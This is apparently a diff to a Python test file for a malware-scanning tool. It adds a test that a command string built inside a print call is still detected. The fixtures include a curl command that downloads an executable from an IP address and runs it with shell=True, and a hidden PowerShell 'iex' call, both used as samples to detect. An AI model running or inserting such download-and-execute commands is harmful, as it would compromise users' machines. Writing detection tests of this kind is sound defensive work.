@@ -9,6 +9,7 @@ from pathlib import Path
 
 from blocking import high
 from builders import write, zip_bytes
+from finalexam.analyze.behavior.python.visitor import python_facts
 from finalexam.config import Config
 from finalexam.exam import run_exam
 
@@ -99,6 +100,17 @@ def test_an_address_in_a_message_to_the_user_is_not_fetched(tmp_path: Path) -> N
         "'curl -s https://203.0.113.7/get it now -o run.exe && run.exe', shell=True))",
     )
     assert "thr-drops-executable" in exam(tmp_path, "shown", {"__init__.py": shown})
+
+
+def test_a_command_line_built_inside_a_message_call_is_still_read() -> None:
+    printed = (
+        "import subprocess\n"
+        "print(subprocess.check_output(['powershell', '-w', 'hidden', 'iex', 'now']))\n"
+    )
+    facts = python_facts(printed)
+    assert "powershell -w hidden iex now" in {f.value for f in facts.facts if f.kind == "string"}
+    told = python_facts("print('Get the runtime from https://example.org/vc.exe please')\n")
+    assert [f.kind for f in told.facts if "vc.exe" in f.value] == ["message"]
 
 
 # mlflow 3.18.0's web bundle carries Prism's shell grammar: command names as alternatives
